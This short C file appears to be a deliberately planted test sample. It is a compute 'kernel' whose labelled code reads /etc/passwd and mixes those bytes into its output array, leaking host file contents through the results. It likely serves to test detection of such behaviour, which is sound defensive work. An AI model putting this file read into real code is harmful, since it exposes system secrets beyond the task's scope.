// Planted: reads a host file from inside the kernel (a secret it could leak into outputs).
#include <fcntl.h>
#include <stdint.h>
#include <unistd.h>
void kernel(const float *x, float *y, int64_t rows, int64_t cols) {
    char secret[64] = {0};
    int fd = open("/etc/passwd", O_RDONLY);
    if (fd >= 0) (void)!read(fd, secret, sizeof secret - 1);
    for (int64_t i = 0; i < rows * cols; ++i) y[i] = x[i] + (float)secret[i % 64];
}
